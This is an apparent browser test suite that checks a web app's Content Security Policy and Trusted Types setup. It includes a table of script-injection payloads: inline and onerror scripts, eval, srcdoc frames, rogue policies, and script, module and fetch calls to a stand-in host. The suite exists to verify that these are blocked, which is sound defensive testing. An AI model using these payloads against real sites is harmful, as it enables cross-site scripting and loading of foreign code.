import { expect, type Page, signIn, test } from '../../support/test.ts';

interface RegisteredRemote {
  name: string;
  routes: { path: string }[];
}

/** Every path that host and remotes declare; parameters are replaced by an id that does not exist. */
async function addressesOf(page: Page): Promise<string[]> {
  const { remotes } = (await (await page.request.get('/remotes.json')).json()) as {
    remotes: RegisteredRemote[];
  };
  expect(remotes.map(({ name }) => name).toSorted()).toEqual(['account', 'chat', 'delivery', 'ml', 'wallet']);
  const remotePaths = remotes.flatMap(({ routes }) => routes.map(({ path }) => path));
  const hostPaths = ['/', '/login', '/callback', '/dev/kit', '/allo', '/no/such/page'];
  return [...hostPaths, ...remotePaths].map((path) =>
    path.replaceAll(/:\w+/g, '3b241101-e2bb-4255-8caf-4136c566a962'),
  );
}

test.describe('every page', () => {
  // Errors for something that does not exist or does not belong to the administrator.
  test.use({ expectedErrors: [/status of 4(0[034]|22)/] });

  test('violates no rule of its own policy, and runs no foreign script', async ({ page, productUrl }) => {
    await signIn(page, 'admin');
    const hosts = new Set<string>();
    const violations: string[] = [];
    page.on('request', (request) => {
      const { protocol, host } = new URL(request.url());
      if (protocol.startsWith('http')) hosts.add(host);
    });
    await page.exposeFunction('reportViolation', (description: string) => violations.push(description));
    await page.addInitScript(`addEventListener('securitypolicyviolation', (event) =>
      reportViolation(event.effectiveDirective + ' ' + event.blockedURI + ' ' + location.pathname))`);
    const addresses = await addressesOf(page);
    for (const address of addresses) {
      await page.goto(address);
      await expect(page.locator('#root *').first()).toBeVisible();
      await page.waitForLoadState('networkidle');
      const foreign = await page.evaluate(() =>
        [...document.scripts].filter(({ src }) => src !== '' && new URL(src).origin !== location.origin),
      );
      expect([address, foreign]).toEqual([address, []]);
    }
    expect(violations).toEqual([]);
    expect([...hosts]).toEqual([new URL(productUrl).host]);
  });
});

/** Ways in which injected code tries to run; each sets `hacked` if it succeeds. */
const attacks: Record<string, string> = {
  'an inline script': `const s = document.createElement('script'); s.append('hacked = 1'); document.body.append(s)`,
  'script text': `const s = document.createElement('script'); s.textContent = 'hacked = 1'; document.body.append(s)`,
  'a handler in an attribute': `const b = document.createElement('button'); b.setAttribute('onclick', 'hacked = 1'); document.body.append(b); b.click()`,
  markup: `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="hacked = 1">')`,
  'markup with a script': `const d = document.createElement('div'); d.innerHTML = '<script>hacked = 1</scr' + 'ipt>'; document.body.append(d)`,
  'written markup': `document.write('<script>hacked = 1</scr' + 'ipt>')`,
  eval: `eval('hacked = 1')`,
  'a function from a string': `new Function('hacked = 1')()`,
  'a timer with a string': `setTimeout('hacked = 1')`,
  'a script of another origin': `const s = document.createElement('script'); s.src = 'https://elsewhere.test/a.js'; document.body.append(s)`,
  'a module of another origin': `await import('https://elsewhere.test/a.js'); hacked = 1`,
  'a data: script': `const s = document.createElement('script'); s.src = 'data:text/javascript,hacked=1'; document.body.append(s)`,
  'a script from outside the builds': `const s = document.createElement('script'); s.src = '/config.json'; document.body.append(s)`,
  'a script from an uploaded file': `const s = document.createElement('script'); s.src = '/api/v1/files/x/content'; document.body.append(s)`,
  'a script by path traversal': `const s = document.createElement('script'); s.src = '/assets/../api/v1/openapi.json'; document.body.append(s)`,
  'a script that no build recorded': `const s = document.createElement('script'); s.src = '/assets/attack.js'; document.body.append(s)`,
  'a worker from a blob': `new Worker(URL.createObjectURL(new Blob(['1']))); hacked = 1`,
  'another base URL': `const b = document.createElement('base'); b.href = 'https://elsewhere.test/'; document.head.append(b); if (document.baseURI.includes('elsewhere')) hacked = 1`,
  'a srcdoc frame': `const f = document.createElement('iframe'); f.srcdoc = '<script>parent.hacked = 1</scr' + 'ipt>'; document.body.append(f)`,
  'a policy of its own': `trustedTypes.createPolicy('attack', { createHTML: (text) => text }); hacked = 1`,
  'another default policy': `trustedTypes.createPolicy('default', { createHTML: (text) => text }); hacked = 1`,
  'a call to another origin': `await fetch('https://elsewhere.test/', { mode: 'no-cors' }); hacked = 1`,
};

test.describe('a page', () => {
  // The console reports what is blocked.
  test.use({ expectedErrors: [/./] });

  test('runs nothing that is injected, and sends nothing elsewhere', async ({ page }) => {
    const requested: string[] = [];
    // The route answers every origin, so a request that leaves the page would succeed.
    await page.route(/elsewhere\.test|\/assets\/attack\.js|\/files\/x\/content/, (route) => {
      requested.push(route.request().url());
      const headers = { 'access-control-allow-origin': '*' };
      return route.fulfill({ contentType: 'text/javascript', body: 'hacked = 1', headers });
    });
    await signIn(page, 'nina');
    const ran: string[] = [];
    for (const [description, code] of Object.entries(attacks)) {
      // Runs as a task of the page, since code run by the debugger is exempt from the policy.
      const hasRun = await page.evaluate(`new Promise((done) => {
        globalThis.hacked = 0;
        setTimeout(async () => {
          try { ${code} } catch {}
          setTimeout(() => done(globalThis.hacked !== 0), 300);
        });
      })`);
      if (hasRun) ran.push(description);
    }
    expect(ran).toEqual([]);
    expect(requested.filter((url) => !url.endsWith('/assets/attack.js'))).toEqual([]);
    expect(page.workers()).toEqual([]);
  });

  test('has one policy for scripts, which creates no markup and accepts no code', async ({ page }) => {
    const reply = await page.goto('/login');
    const policy = (await reply?.headerValue('content-security-policy')) ?? '';
    expect(policy).toMatch(/require-trusted-types-for 'script'; trusted-types default;/);
    expect(policy).toMatch(/script-src 'self' 'nonce-[\w+/=-]{16,}';/);
    const results = await page.evaluate(`[
      trustedTypes.defaultPolicy.name,
      ...['createHTML', 'createScript'].map((way) => {
        try { return String(trustedTypes.defaultPolicy[way]('x')); } catch (error) { return error.name; }
      }),
    ]`);
    expect(results).toEqual(['default', 'TypeError', 'TypeError']);
  });
});
